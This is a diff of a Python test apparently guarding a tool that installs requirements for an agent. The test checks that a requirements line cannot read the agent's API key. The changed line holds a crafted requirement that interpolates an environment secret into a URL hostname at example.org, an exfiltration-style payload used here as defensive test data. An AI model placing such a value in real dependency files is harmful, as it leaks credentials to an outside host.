@@ -254,7 +254,7 @@ def test_cancelling_stops_uv_and_removes_what_it_made(maker: Maker, tmp_path: Pa
 
 def test_T14_requirements_cannot_read_the_agents_environment(maker: Maker, tmp_path: Path) -> None:
     maker.env["RUNYARD_API_KEY"] = "hunter2"
-    code = maker.code(tmp_path / "one", "lathe==${RUNYARD_API_KEY}\n")
+    code = maker.code(tmp_path / "one", "x @ https://${RUNYARD_API_KEY}.example.org/x-1.tar.gz\n")
     with pytest.raises(Rejected) as refused:
         maker(code)
     assert "hunter2" not in refused.value.message
